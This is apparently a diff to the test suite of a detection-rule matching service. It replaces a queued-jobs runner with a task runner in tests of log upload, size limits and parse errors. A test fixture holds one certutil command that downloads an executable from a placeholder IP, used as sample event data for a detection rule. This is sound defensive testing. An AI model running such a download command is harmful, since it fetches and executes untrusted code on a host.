@@ -10,10 +10,10 @@ import pytest
 from django.core.management import call_command
 
 from catalog.matching import forget_compiled
-from catalog.matching_files import jobs
 from catalog.models import Rule
 from catalog.models.matching_jobs import MatchJob, RuleTestEvent
 from tests.constants import CERTUTIL_ID, CORPUS
+from tests.task_worker import run_queued_tasks
 
 COMMAND = "certutil.exe -urlcache -f http://198.51.100.7/a.exe a.exe"
 HIT = {
@@ -85,7 +85,7 @@ def test_jsonl_upload_runs_as_a_job_grouped_by_rule_and_timeline(client):
     job = MatchJob.objects.get()
     assert response["Location"] == f"/match/jobs/{job.token}/" and job.status == "queued"
     assert "Events matched" in client.get(response["Location"]).content.decode()  # the progress page
-    assert jobs.run_queued_jobs() == 1
+    assert run_queued_tasks() == 1
     job.refresh_from_db()
     assert job.status == "done" and job.events_done == 3 and job.total_events == 3 and not job.file_path
     group = next(g for g in job.results["rules"] if g["id"] == CERTUTIL_ID)
@@ -101,7 +101,7 @@ def test_jsonl_upload_runs_as_a_job_grouped_by_rule_and_timeline(client):
 def test_nul_bytes_in_a_file_are_dropped_not_fatal(client):
     data = json.dumps({**HIT, "Image": "C:\\Windows\\System32\\certutil.exe\u0000"}).encode()
     assert upload(client, "one.json", data).status_code == 302
-    jobs.run_queued_jobs()
+    run_queued_tasks()
     job = MatchJob.objects.get()
     assert job.status == "done" and job.results["rules"][0]["id"] == CERTUTIL_ID
 
@@ -114,7 +114,7 @@ def test_limits_are_enforced_before_parsing(client, settings):
     settings.CATALOG_MATCH_MAX_UPLOAD_BYTES = 10**6
     settings.CATALOG_MATCH_MAX_FILE_EVENTS = 2
     upload(client, "three.jsonl", b"{}\n{}\n{}\n")
-    jobs.run_queued_jobs()
+    run_queued_tasks()
     job = MatchJob.objects.get()
     assert job.status == "failed" and job.message == "three.jsonl: 3 events (at most 2)." and job.events_done == 0
     assert upload(client, "x.bin", b"\x01\x02 not json").status_code == 400
@@ -122,7 +122,7 @@ def test_limits_are_enforced_before_parsing(client, settings):
 
 def test_bad_json_fails_the_job_with_file_and_line(client):
     upload(client, "bad.jsonl", b'{"a": 1}\n{"a": \n')
-    jobs.run_queued_jobs()
+    run_queued_tasks()
     job = MatchJob.objects.get()
     assert job.status == "failed" and job.message.startswith("bad.jsonl: line 2, column")
 
@@ -132,13 +132,13 @@ def test_evtx_upload_through_the_api(client, settings):
     evtx = next(SYSMON_EVTX.glob("*.evtx"))
     response = upload(client, evtx.name, evtx.read_bytes(), url="/api/match/files/")
     assert response.status_code == 202
-    jobs.run_queued_jobs()
+    run_queued_tasks()
     answer = client.get(response.json()["url"]).json()
     expected = json.loads(next(SYSMON_EVTX.glob("*.json")).read_text())  # the same event, rendered as JSON
     assert answer["status"] == "done" and answer["format"] == "evtx" and answer["results"]["events"] == 1
     settings.CATALOG_MATCH_MAX_FILE_EVENTS = 0
     upload(client, evtx.name, evtx.read_bytes())
-    jobs.run_queued_jobs()
+    run_queued_tasks()
     assert MatchJob.objects.get(status="failed").message == f"{evtx.name}: 1 events (at most 0)."
     assert expected["Event"]["System"]["EventRecordID"]  # the parsed file is the event the JSON shows
 
